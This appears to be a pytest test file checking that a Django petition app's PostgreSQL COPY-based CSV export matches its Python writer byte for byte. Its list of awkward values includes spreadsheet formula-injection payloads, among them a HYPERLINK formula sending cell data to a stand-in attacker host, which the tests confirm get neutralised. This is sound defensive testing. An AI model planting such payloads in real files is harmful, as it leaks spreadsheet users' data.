"""On PostgreSQL the CSV export is made by COPY: the same bytes as the Python writer, the
reference, for awkward values, every filter and both sets of columns."""

import datetime

import pytest
from django.db import connection
from django.utils import timezone

from letters_app.exports import signatures as exports
from letters_app.models import Signature
from tests.clock import MIDDAY
from tests.factories import LetterFactory, SignatureFactory, UserFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's"),
    pytest.mark.time_machine(MIDDAY, tick=False),  # "yesterday" stays yesterday
]

KHMER = "សមាគមខ្មែរដើម្បីសិទ្ធិមនុស្ស"
AWKWARD = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+33 Collectif", "-1+2",
    "@SUM(A1:A9)", "\tTabbed Association", "\rCarriage Association", "|cmd Association",
    "%Percent Association", "'=Already quoted", "''+twice", "'t Hooft Foundation",
    KHMER, "Collectif des Amis du Cambodge d'Île-de-France", 'Friends of "Khmer" Culture, Inc.',
    "Comma, Inc.", "Two\nlines", "Windows\r\nlines", 'Ends with a quote"', '"', "\\.", " spaced ",
    "1-2", "Élise Chan",
]  # fmt: skip


@pytest.fixture
def awkward():
    """Two letters; signatures with every awkward name, in each column people type, with every
    status, kind and a few countries, imported or not, over three days."""
    importer = UserFactory(username='im"porter, =1')
    letters = [LetterFactory(slug="first-letter"), LetterFactory(slug="second-letter")]
    kinds = list(Signature.Kind.values)
    now = timezone.now().replace(microsecond=654321)
    for i, value in enumerate(AWKWARD * 2):
        signature = SignatureFactory(
            letter=letters[i % 2],
            kind=kinds[i % len(kinds)],
            name=value,
            acronym=AWKWARD[(i + 1) % len(AWKWARD)][:30],
            title=AWKWARD[(i + 2) % len(AWKWARD)] if i % 3 else "",
            affiliation=value if i % 4 == 0 else "",
            party=AWKWARD[(i + 3) % len(AWKWARD)],
            website="https://example.org/?a=1,b=2" if i % 5 == 0 else "",
            contact_name=value, contact_role=f"Role {value}", flag_reason=value if i % 7 else "",
            is_flagged=i % 7 == 0, email=f"s{i}@example.org", country=["FR", "KH", "", "DE"][i % 4],
            ip_address=["192.0.2.7", "2001:db8::1", None][i % 3],
            imported_by=importer if i % 2 else None,
        )  # fmt: skip
        when = now - datetime.timedelta(days=i % 3)
        listed = {"status": "confirmed", "is_public": True, "confirmed_at": when,
                  "published_at": when + datetime.timedelta(seconds=i)}  # fmt: skip
        Signature.objects.filter(pk=signature.pk).update(
            created_at=when, version=i % 2, **(listed if i % 5 else {})
        )
    Signature.objects.filter(name="Two\nlines").update(withdrawn_at=now)
    return letters


def both(queryset, *, private, across_letters=False, bom=False) -> tuple[bytes, bytes]:
    columns = exports.export_columns(private=private, across_letters=across_letters)
    by_copy = b"".join(exports.csv_copy_stream(queryset, columns, bom=bom))
    by_python = b"".join(exports.csv_python_stream(queryset, columns, bom=bom))
    return by_copy, by_python


@pytest.mark.parametrize("private", [False, True])
def test_copy_writes_the_python_writers_bytes(awkward, private):
    queryset = exports.signature_queryset(letters=[awkward[0]], private=private)
    by_copy, by_python = both(queryset, private=private)

    assert by_copy == by_python
    assert queryset.count() > 10
    assert by_python.count(b"\r\n") > queryset.count()  # CRLF records
    quoted = ('"Friends of ""Khmer"" Culture, Inc."', '"Two\nlines"')
    for value in ("'=HYPERLINK", "'+33", "'-1+2", "'@SUM", "'\tTabbed", "'|cmd", "'%Percent",
                  "''=Already", KHMER, *quoted):  # fmt: skip
        assert value.encode() in by_python, value


def test_copy_matches_across_letters_with_a_bom(awkward):
    queryset = exports.signature_queryset(private=True)
    by_copy, by_python = both(queryset, private=True, across_letters=True, bom=True)

    assert by_copy == by_python
    assert by_copy.startswith(b"\xef\xbb\xbfn,letter,kind,")
    assert b",first-letter," in by_copy and b",second-letter," in by_copy


@pytest.mark.parametrize(
    "filters",
    [
        {"status": ["confirmed"]},
        {"status": ["pending", "withdrawn"]},
        {"kind": ["mp", "individual"]},
        {"country": ["KH", "DE"]},
        {"version": 1},
        {"signed_from": "yesterday"},
        {"signed_before": "yesterday"},
    ],
)
@pytest.mark.parametrize("private", [False, True])
def test_copy_matches_under_every_filter(awkward, filters, private):
    start_of_today = timezone.now().replace(hour=0, minute=0, second=0, microsecond=0)
    filters = {k: (start_of_today - datetime.timedelta(days=1) if v == "yesterday" else v)
               for k, v in filters.items()}  # fmt: skip
    queryset = exports.signature_queryset(letters=awkward, private=private, **filters)
    by_copy, by_python = both(queryset, private=private, across_letters=True)

    assert by_copy == by_python
    everything = exports.signature_queryset(letters=awkward, private=private)
    assert 0 < queryset.count() < everything.count() or filters.keys() == {"status"}


def test_an_empty_list_is_the_header_alone(awkward):
    queryset = exports.signature_queryset(letters=awkward, private=False, country=["JP"])
    by_copy, by_python = both(queryset, private=False)

    header = ",".join(c.key for c in exports.PUBLIC_COLUMNS) + "\r\n"
    assert by_copy == by_python == header.encode()


def test_line_breaks_inside_quotes_survive_any_chunking():
    data = b'1,"a\nb",c\n2,"""x""\n",d\n3,e,"f\n"\n'
    expected = b'1,"a\nb",c\r\n2,"""x""\n",d\r\n3,e,"f\n"\r\n'
    for size in range(1, len(data) + 1):
        quoted, out = False, []
        for start in range(0, len(data), size):
            chunk, quoted = exports._crlf(data[start : start + size], quoted)
            out.append(chunk)
        assert b"".join(out) == expected, size
